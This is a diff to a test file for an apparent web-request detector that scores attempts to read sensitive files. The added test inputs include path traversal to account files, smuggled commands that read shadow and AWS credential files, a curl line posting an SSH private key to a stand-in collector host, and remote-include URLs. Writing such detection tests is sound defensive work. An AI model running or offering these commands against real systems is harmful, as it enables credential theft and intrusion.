@@ -23,7 +23,11 @@ describe("files family", () => {
       ["a bare secret file name", ".htpasswd"],
       ["an XAMPP config by drive path", "D:\\xampp\\php\\php.ini"],
       ["a coding-agent config", "/.cursor/mcp.json"],
-      ["a NUL truncating an extension", "avatar.php\u0000.png"]
+      ["a NUL truncating an extension", "avatar.php\u0000.png"],
+      ["the copy a tool leaves beside the account database", "/etc/shadow-"],
+      ["an editor's copy of it", "../../etc/passwd~"],
+      ["an account file named by folded hex notation", "0x2fetc0x2fgroup"],
+      ["a rooted Windows log path with spaces in its names", "/Program Files\\Acme Web\\logs\\access.log"]
     ])("%s: %s", (_, value) => {
       expect(scoreOf(family, value)).toBeGreaterThanOrEqual(THRESHOLD)
     })
@@ -38,7 +42,8 @@ describe("files family", () => {
       ["a Spring actuator endpoint", "/actuator/heapdump"],
       ["a Spring actuator under a prefix", "/api/actuator/env"],
       ["a Vite raw file read", "/@fs/etc/passwd"],
-      ["a WordPress debug log", "/wp-content/debug.log"]
+      ["a WordPress debug log", "/wp-content/debug.log"],
+      ["a Vite virtual module id", "/@id/__x00__virtual:env"]
     ])("in the request path, %s: %s", (_, path) => {
       expect(scoreOf(family, path, "path")).toBeGreaterThanOrEqual(THRESHOLD)
     })
@@ -63,6 +68,32 @@ describe("files family", () => {
       expect(scoreOf(family, value, value.startsWith("<") ? "body" : "query")).toBeGreaterThanOrEqual(THRESHOLD)
     })
 
+    it.each([
+      ["cat", "cat /etc/subgid", "query"],
+      ["type, on Windows", "type c:\\boot.ini", "query"],
+      ["tail, in a header", "tail -n 50 /etc/shadow", "header"],
+      ["base64, after a command separator", "x; base64 /root/.aws/credentials", "body"],
+      ["curl sending a key", "curl -d @/home/ci/.ssh/id_rsa https://collector.example", "header"]
+    ])("a command reading a sensitive file, even in prose, %s: %s", (_, value, location) => {
+      expect(scoreOf(family, value, location as "query" | "header" | "body")).toBeGreaterThanOrEqual(THRESHOLD)
+    })
+
+    it.each([
+      ["a URL cut off by #", "https://evil.example/shell.txt#"],
+      ["a URL with backslashes cut off by ?", "http:\\\\evil.example\\x.txt?"],
+      ["a file URL cut off by ?", "file://share.example/inc/config.php?"]
+    ])("truncation, %s: %s", (_, value) => {
+      expect(rulesOf(family, value)).toContain(RULES.truncatedUrl.id)
+    })
+
+    it("a whole remote URL to a host root or a script scores at level 2, in a parameter only", () => {
+      expect(rulesOf(family, "https://evil.example/", "query", 2)).toContain(RULES.remoteUrl.id)
+      expect(rulesOf(family, "ftp://files.example:2121/payload.txt", "body", 2)).toContain(RULES.remoteUrl.id)
+      expect(scoreOf(family, "https://evil.example/", "query", 1)).toBeLessThan(THRESHOLD)
+      expect(rulesOf(family, "https://shop.example/products/42", "query", 2)).toEqual([])
+      expect(rulesOf(family, "https://partner.example/", "header", 2)).toEqual([])
+    })
+
     it("a URL in the request path at level 2", () => {
       expect(rulesOf(family, "/get/file:///etc/hosts", "path", 2)).toContain(RULES.pathUrl.id)
       expect(rulesOf(family, "/proxy/https://example.com/", "path", 1)).toEqual([])
@@ -83,7 +114,12 @@ describe("files family", () => {
       ["a Windows folder", "C:\\Program Files"],
       ["a markdown link", "See [docs](https://example.com/docs)"],
       ["a PHP file name", "install.php"],
-      ["an email", "first.last+tag@sub.example.co.uk"]
+      ["an email", "first.last+tag@sub.example.co.uk"],
+      ["a question ending in a scheme name", "is it http or https?"],
+      ["a word ending in a question mark", "files?"],
+      ["a file name ending in a dash", "/srv/app/notes-"],
+      ["a rooted path in a sentence", "/docs is where the guide lives"],
+      ["a command over an ordinary file", "cat ./notes/todo.txt"]
     ])("%s: %s", (_, value) => {
       expect(scoreOf(family, value)).toBeLessThan(THRESHOLD)
     })
@@ -123,6 +159,10 @@ describe("files family", () => {
       ["schemes and colons", "data::"],
       ["filter-chain prefixes", "convert."],
       ["backup-looking segments", "/a.ba"],
+      ["commands before paths", "cat /"],
+      ["lax escape pairs", "%bg%qf"],
+      ["undecoded lead bytes", "\ufffd."],
+      ["remote URLs", "https://a.example/ "],
       ["NUL views", "%0"]
     ])("%s", (_, fragment) => {
       expect(doublingRatio(family, repeated(fragment))).toBeLessThan(2.5)
